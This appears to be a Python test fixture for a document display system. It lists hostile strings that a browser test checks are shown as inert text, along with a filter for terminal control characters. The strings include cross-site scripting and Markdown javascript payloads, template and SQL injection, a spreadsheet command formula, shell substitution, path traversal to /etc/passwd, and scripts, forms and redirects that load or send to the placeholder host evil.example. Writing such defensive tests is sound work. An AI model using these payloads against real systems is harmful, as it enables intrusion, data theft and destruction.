"""Texts that try to be more than text: for every field of a document, every question, every place that shows one.

Whatever shows them must show them as they stand, or with what steers a screen taken out. Scripts that run would call
`alert`, requests that leave would go to evil.example: a browser test watches for both.
"""

from __future__ import annotations

import re

HOSTILE: dict[str, str] = {
    # HTML
    "script": "<script>alert('script')</script>",
    "script in capitals": "<ScRiPt src=//evil.example/a.js></sCrIpT>",
    "closing tags": "</title></textarea></style></script><script>alert('closed')</script>",
    "image with handler": '<img src=x onerror="alert(1)">',
    "image without quotes": "<img/src=https://evil.example/p.png/onerror=alert(1)>",
    "svg": "<svg onload=alert(1)><animate onbegin=alert(2) attributeName=x></svg>",
    "attribute": '" autofocus onfocus=alert(1) x="',
    "attribute in single quotes": "' onmouseover='alert(1)",
    "frame": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "form": '<form action="https://evil.example"><button autofocus>Log in</button></form>',
    "style": "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/a.css>",
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "details": "<details open ontoggle=alert(1)>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "entities": "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "math": '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    # Markdown
    "javascript link": "[click](javascript:alert(1))",
    "javascript link with entity": "[click](javascript&#58;alert(1))",
    "javascript link with a tab": "[click](java\tscript:alert(1))",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "image": "![pixel](https://evil.example/p.png)",
    "image by reference": "![pixel][p]\n\n[p]: https://evil.example/p.png",
    "automatic links": "<https://evil.example> https://evil.example www.evil.example me@evil.example",
    "a mark of ours": '[1](?doc=other&s=0-9 "Source 1: what nobody wrote")',
    "a mark that is none": "As was shown. [1] [2](javascript:alert(1))",
    "heading and rule": "# Not a heading\n\n---\n\n> not a quotation\n\n1. not a list",
    "code": "```html\n<script>alert(1)</script>\n```",
    "table": "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | b |",
    "backslashes": "\\<script\\>alert(1)\\</script\\> \\[x\\](javascript:alert(1))",
    # templates and what else is run
    "braces": "{{constructor.constructor('alert(1)')()}} {% print(1) %} {0} {__class__} %s %(x)s",
    "template literal": "${alert(1)} `${[].constructor.constructor('alert(1)')()}`",
    "latex": "$$\\href{javascript:alert(1)}{x}$$ \\(\\unicode{x3c}script\\)",
    "mermaid": '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"] --> B; click A call alert(1)\n```',
    "gradio tags": "<gradio-app src=https://evil.example></gradio-app> {'role': 'system', 'content': '<b>'}",
    "thinking": "<think>alert(1)</think> <reasoning>x</reasoning>",
    "sql": "'; DROP TABLE articles; --",
    "query": 'title:"x" AND (a OR b)^2 NOT [a TO b] +c -d ~e *',
    "formula": '=HYPERLINK("https://evil.example","x") +cmd|\' /C calc\'!A0 @SUM(1)',
    "rich markup": "[bold red]x[/bold red] [link=https://evil.example]y[/link] [/]",
    "shell": "$(touch hostile) `touch hostile`; touch hostile | touch hostile",
    # paths and addresses
    "path": "../../../../etc/passwd",
    "path of Windows": "..\\..\\windows\\win.ini",
    "file link": "[x](file:///etc/passwd)",
    # characters that steer a terminal
    "colour": "\x1b[31mred\x1b[0m",
    "clear the screen": "\x1b[2J\x1b[H\x1bc",
    "window title": "\x1b]0;not yours\x07",
    "hyperlink of a terminal": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "clipboard of a terminal": "\x1b]52;c;ZXZpbA==\x07",
    "one byte escapes": "\x9b31mred\x9b0m \x90q\x9c",
    "answer back": "\x05\x1b[6n\x1b[c",
    "carriage return": "harmless\rHARMFUL",
    "backspaces": "harmless\x08\x08\x08\x08HARM",
    "bell and NUL": "a\x00b\x07c\x7fd",
    "other line ends": "one\x0btwo\x0cthree\x85four\u2028five\u2029six",
    # characters that turn or hide text
    "bidirectional override": "invoice\u202efdp.exe",
    "isolates": "\u2066\u2067\u2068one\u2069two\u202a\u202bthree",
    "marks of direction": "\u200f\u200e\u061cone",
    "zero width": "pass\u200bword z\u200cw\u200dj\u2060 \ufeffbom",
    "soft hyphen": "soft\u00adhyphen",
    "tag characters": "\U000e0041\U000e0042 hidden",
    "right to left": "افتتح المتحف אתמול at 10:00 (שעון מקומי)",
    "combining": "Z" + "\u0335\u0321\u034f" * 40 + "algo",
    "variation": "\u2764\ufe0f\ufe0e text",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈🇪🇺👍🏽",
    "private and unassigned": "\ue000\uffff\U0010ffff",
    "look-alikes": "раура1 (Cyrillic) ｅｖｉｌ．ｅｘａｍｐｌｅ",
    # size
    "long word": "x" * 20_000,
    "long line": "A word and another one. " * 4_000,
    "deep brackets": "[" * 5_000 + "](" * 100 + ")" * 5_000,
    "deep quotations": ">" * 5_000 + " deep",
    "many stars": "*_" * 5_000 + "a" + "_*" * 5_000,
    "white": " \t" * 2_000 + "end",
}
"""A name for each kind of attack, and one text of it."""

STEERING = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e007f]"
)
"""What must never reach a terminal: everything that moves, colours, hides or turns; line ends and tabs may."""


def in_one_line(text: str) -> str:
    """The text for a place that ends with the line, such as a file's name or a field of a header."""
    return re.sub(r"[\r\n\x00\x85\u2028\u2029/]", " ", text)[:180].strip() or "x"
